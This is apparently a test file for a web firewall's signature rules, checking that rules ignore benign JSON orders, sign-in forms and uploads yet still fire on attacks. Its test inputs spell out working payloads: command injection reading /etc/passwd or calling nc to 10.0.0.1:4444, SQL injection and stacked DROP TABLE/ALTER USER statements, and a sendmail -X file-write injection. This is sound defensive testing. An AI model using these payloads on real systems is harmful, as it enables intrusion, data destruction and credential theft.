/**
 * Second-level prefilter conditions of bundled rules whose trigger is an everyday word: the rule runs
 * only on a request that also holds what its pcre needs besides that word, and still fires on its attack.
 * - 9001676 (a timed ping after a command separator): "ping" is in "shipping"; the separators, an
 *   encoded line break among them, are not in a JSON order.
 * - 9000121 (SQL after a quote in a bearer token): every API call sends "Authorization: Bearer"; an
 *   API client's headers hold no quote.
 * - 9000302 (a shell separator, then a command, in a body value): its command names end at a `\b`, so
 *   "id" in "ridge" or "nc" in "lunch" does not count; the bench's multipart note has both, and a `;`.
 * - 9000339 (a sender address, whitespace, then a sendmail option): its trigger, a dash after whitespace,
 *   is in every multipart body (the line break before each boundary); an upload without an `@` or `%40`
 *   has no address, and its pcre no longer reads the whole upload.
 * - 9000180 (a stacked statement after a value: DROP TABLE, ALTER USER ... PASSWORD): "password" is in
 *   every sign-in form; the statement needs a `;` or a line break before it, written or encoded, which
 *   a browser's form body (line breaks sent as %0D%0A) and a compact JSON document do not hold raw.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { loadRuleSet, type LoadedRuleSet } from '../../src/signatures/load-rule-set.js';
import { compileRules, type CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { buildInspection } from './fixtures.js';

const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
const API: Array<[string, string]> = [
  ['Host', 'api.example.com'],
  ['User-Agent', 'okhttp/4.12.0'],
  ['Content-Type', 'application/json'],
];

let gate: CompiledSignatureGate;
let loaded: LoadedRuleSet;
beforeAll(async () => {
  loaded = await loadRuleSet([RULES]);
  gate = loaded.gate;
});
const run = (spec: RequestSpec) => gate.evaluate(buildInspection(spec));
/** The rules evaluated fully: a hook on the gate is not needed, the candidates' count is reported. */
const candidates = (spec: RequestSpec): number => run(spec).candidates;

describe('bundled rules behind a second-level condition', () => {
  it('does not run 9001676 on a JSON order that says "shipping", and still fires on `; ping -n 20` (also after %0a)', () => {
    const order = { method: 'POST', url: '/api/v1/orders', headers: API, body: '{"shipping":{"city":"London"},"comment":"please ring twice"}' };
    const withoutShipping = { ...order, body: '{"delivery":{"city":"London"},"comment":"please ring twice"}' };
    expect(candidates(order)).toBe(candidates(withoutShipping));
    for (const url of ['/tools?host=example.com%3Bping%20-n%2020%20evil.test', '/tools?host=example.com%0aping%20-c%209%20evil.test']) {
      expect(run({ url, headers: API }).hits.map((h) => h.sid), url).toContain(9001676);
    }
  });

  it('does not run 9000121 on a bearer token without a quote in the headers, and still fires on one with SQL after its quote', () => {
    const call = (token: string): RequestSpec => ({ url: '/api/v1/me', headers: [...API, ['Authorization', `Bearer ${token}`]] });
    expect(candidates(call('2f6c1b0e9a8d4c7f'))).toBe(candidates({ url: '/api/v1/me', headers: API }));
    expect(run(call("2f6c1b0e' or '1'='1")).hits.map((h) => h.sid)).toContain(9000121);
  });

  it('does not run 9000302 on a note whose command names sit inside words ("ridge", "lunch;"), and still fires on `;id` at the end of a body or before `&`', () => {
    const line = 'Day 3: rain in the morning, sun after lunch; walked 18 km along the ridge to the hut.\n';
    const note = (text: string): RequestSpec => ({ method: 'POST', url: '/upload', headers: [...API.slice(0, 2), ['Content-Type', 'text/plain']], body: text.repeat(40) });
    expect(candidates(note(line))).toBe(candidates(note(line.replace(/;/g, ','))));
    const form = (body: string): RequestSpec => ({ method: 'POST', url: '/comment', headers: [...API.slice(0, 2), ['Content-Type', 'application/x-www-form-urlencoded']], body });
    for (const body of ['name=ann;id', 'name=ann;id&x=1', 'name=ann%3Bcat%20/etc/passwd', 'name=a|nc 10.0.0.1 4444']) {
      expect(run(form(body)).hits.map((h) => h.sid), body).toContain(9000302);
    }
  });

  it('does not run 9000339 on a multipart upload without an address (a dash after each boundary line break), and still fires on an address then -X/path, written or %40-encoded', () => {
    const only = compileRules(loaded.rules.filter((r) => r.sid === 9000339));
    const boundary = '----WardenBenchBoundary7MA4YWxkTrZu0gW';
    const upload = (title: string): RequestSpec => ({
      method: 'POST',
      url: '/upload',
      headers: [...API.slice(0, 2), ['Content-Type', `multipart/form-data; boundary=${boundary}`]],
      body: `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${title}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\nwalked 18 km - then rain\r\n--${boundary}--\r\n`,
    });
    expect(only.evaluate(buildInspection(upload('Trip notes'))).candidates).toBe(0);
    // An address anywhere makes it a candidate again (the set is a condition, not a verdict).
    expect(only.evaluate(buildInspection(upload('from ann@example.test'))).candidates).toBe(1);
    expect(only.evaluate(buildInspection(upload('ann@example.test -X/var/www/html/x.php'))).hits.map((h) => h.sid)).toEqual([9000339]);
    const form = (body: string): RequestSpec => ({ method: 'POST', url: '/contact', headers: [...API.slice(0, 2), ['Content-Type', 'application/x-www-form-urlencoded']], body });
    expect(only.evaluate(buildInspection(form('from=bo%40example.test+-X%2Fvar%2Fwww%2Fs.php'))).hits.map((h) => h.sid)).toEqual([9000339]);
  });

  it('does not run 9000180 on a sign-in form (its "password" without a ; or a line break), and still fires on a stacked statement after ;, a raw or an encoded line break', () => {
    const only = compileRules(loaded.rules.filter((r) => r.sid === 9000180));
    const form = (body: string): RequestSpec => ({ method: 'POST', url: '/account/login', headers: [...API.slice(0, 2), ['Content-Type', 'application/x-www-form-urlencoded']], body });
    expect(only.evaluate(buildInspection(form('email=ann.lee%40example.com&password=correct+horse+battery+staple&remember=on'))).candidates).toBe(0);
    // A line break anywhere in the body makes it a candidate again (the set is a condition, not a verdict).
    expect(only.evaluate(buildInspection(form('note=a\nb&password=x'))).candidates).toBe(1);
    for (const body of ["name=test');%0AALTER USER sa WITH PASSWORD 'x'", "name=x'%0D%0AGRANT ALL PRIVILEGES ON *.* TO public", 'name=1\nDROP TABLE users', "name=x';DROP TABLE users--"]) {
      expect(only.evaluate(buildInspection(form(body))).hits.map((h) => h.sid), body).toEqual([9000180]);
    }
  });
});
